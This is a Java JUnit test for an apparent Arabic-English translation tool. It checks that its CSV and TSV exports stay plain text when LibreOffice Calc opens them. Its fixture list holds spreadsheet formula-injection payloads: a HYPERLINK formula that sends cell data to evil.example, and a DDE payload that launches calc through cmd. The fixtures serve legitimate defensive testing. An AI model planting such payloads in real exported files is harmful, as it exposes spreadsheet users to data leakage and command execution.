package dev.tarjama.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tarjama.translation.TranslatedDocument;
import dev.tarjama.translation.TranslatedSentence;
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The CSV and TSV exports read back by a real spreadsheet: LibreOffice Calc headless (Debian's
 * {@code libreoffice-calc-nogui}, which {@code .ci/run} installs) imports each file with the import
 * options a user gets (UTF-8, formulas evaluated) and saves it as .xlsx, which POI reads. Every text
 * cell must come back as text, Arabic intact, never a formula, a number or an error. Skipped when
 * {@code soffice} is absent.
 */
class SpreadsheetRoundTripTest {
    /** Arabic / English pairs that start like formulas, as an attacker (or a headline) may write them. */
    static final List<String[]> PAIRS = List.of(
            new String[] {"=1+1", "=1+1"},
            new String[] {"=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط هنا\")", "=HYPERLINK(\"http://evil.example\",\"click\")"},
            new String[] {"=«حل مشكلات الطرفين» قال لافروف.", "+1 said Lavrov, \"peace\"."},
            new String[] {"-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"},
            new String[] {"\tقال الوزير.", "\r=2+2"},
            new String[] {"＝1+1 بالعرض الكامل", "-"},
            new String[] {"قال «مرحبا»، ثم غادر.", "\"Hello\", he said; then left."});

    private static Path dir;

    @BeforeAll
    static void requireLibreOffice() throws IOException {
        Assumptions.assumeTrue(onPath("soffice"), "skipped: LibreOffice (soffice) is not installed; .ci/run installs "
                + "libreoffice-calc-nogui. The CSV/TSV escaping is still covered by TableExportProperties");
        dir = Files.createTempDirectory("tarjama-calc-");
    }

    @AfterAll
    static void clean() throws IOException {
        if (dir != null) {
            try (Stream<Path> files = Files.walk(dir)) {
                files.sorted(Comparator.reverseOrder()).map(Path::toFile).forEach(File::delete);
            }
        }
    }

    static boolean onPath(String program) {
        for (String d : System.getenv().getOrDefault("PATH", "").split(File.pathSeparator)) {
            if (!d.isEmpty() && Files.isExecutable(Path.of(d, program))) {
                return true;
            }
        }
        return false;
    }

    static TranslatedDocument document() {
        List<List<String[]>> shape = List.of(PAIRS.subList(0, 3), PAIRS.subList(3, PAIRS.size()));
        return HostileText.document(shape, "tiny-ar-en", "rev", -0.25);
    }

    @Test
    void everyTextCellOfTheCsvComesBackAsTextWithArabicIntact() throws Exception {
        assertTextCells(readBack(ExportFormat.CSV, ExportContext.now(null), "44"), false);
    }

    @Test
    void everyTextCellOfTheTsvComesBackAsTextWithArabicIntact() throws Exception {
        assertTextCells(readBack(ExportFormat.TSV, ExportContext.now(null), "9"), true);
    }

    @Test
    void withFormulasKeptTheSameReaderEvaluatesThem() throws Exception {
        List<List<Cell>> rows = readBack(ExportFormat.CSV, ExportContext.now(null).withOptions(new ExportOptions(false, true)), "44");
        assertEquals(CellType.FORMULA, rows.get(1).get(2).getCellType(), "formulas=keep is for machine consumers only");
    }

    /** Checks the Arabic and English cells: text, the export's text with one leading quote where it was escaped. */
    private static void assertTextCells(List<List<Cell>> rows, boolean tsv) {
        assertEquals(List.of("paragraph", "sentence", "arabic", "english", "score"),
                rows.get(0).stream().map(Cell::getStringCellValue).toList());
        List<TranslatedSentence> sentences = HostileText.sentences(document());
        assertEquals(sentences.size(), rows.size() - 1);
        for (int i = 0; i < sentences.size(); i++) {
            List<Cell> row = rows.get(i + 1);
            String[] texts = {sentences.get(i).source(), sentences.get(i).translation()};
            for (int c = 0; c < 2; c++) {
                Cell cell = row.get(2 + c);
                String text = tsv ? texts[c].replace('\t', ' ').replace('\r', ' ') : texts[c];
                // the export escapes the text as written; Calc then stores a line break as LF
                String expected = TableExportProperties.formulaEscaped(text).replace('\r', '\n');
                text = text.replace('\r', '\n');
                assertEquals(CellType.STRING, cell.getCellType(), "row " + i + " column " + c + ": " + cell);
                assertEquals(expected, cell.getStringCellValue(), "row " + i + " column " + c);
                assertTrue(cell.getStringCellValue().endsWith(text), "the text itself is intact");
            }
            assertEquals(CellType.NUMERIC, row.get(4).getCellType(), "the score stays a number");
        }
    }

    /** Exports, converts with LibreOffice (UTF-8, the given separator, formulas evaluated) and reads the .xlsx. */
    private static List<List<Cell>> readBack(ExportFormat format, ExportContext ctx, String separator) throws Exception {
        String name = format.requestName() + (ctx.options().escapeFormulas() ? "" : "-kept");
        Path in = dir.resolve(name + "." + format.extension());
        Files.write(in, Exporters.toBytes(document(), format, ctx));
        Path out = dir.resolve("out-" + name);
        Path profile = dir.resolve("profile-" + name);
        // CSV filter options: separator, text delimiter ("), UTF-8 (76), first line 1; then defaults
        Process p = new ProcessBuilder("soffice", "-env:UserInstallation=" + profile.toUri(), "--headless", "--norestore",
                "--convert-to", "xlsx", "--infilter=CSV:" + separator + ",34,76,1", "--outdir", out.toString(), in.toString())
                .redirectErrorStream(true).redirectOutput(dir.resolve(name + ".log").toFile()).start();
        if (!p.waitFor(180, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            throw new AssertionError("soffice did not finish in 180 s");
        }
        Path xlsx = out.resolve(name + ".xlsx");
        assertTrue(Files.exists(xlsx), "soffice wrote no .xlsx: " + Files.readString(dir.resolve(name + ".log")));
        List<List<Cell>> rows = new ArrayList<>();
        try (InputStream s = Files.newInputStream(xlsx); XSSFWorkbook book = new XSSFWorkbook(s)) {
            Sheet sheet = book.getSheetAt(0);
            for (Row row : sheet) {
                List<Cell> cells = new ArrayList<>();
                for (int c = 0; c < 5; c++) {
                    cells.add(row.getCell(c, Row.MissingCellPolicy.CREATE_NULL_AS_BLANK));
                }
                rows.add(cells);
            }
        }
        return rows;
    }
}
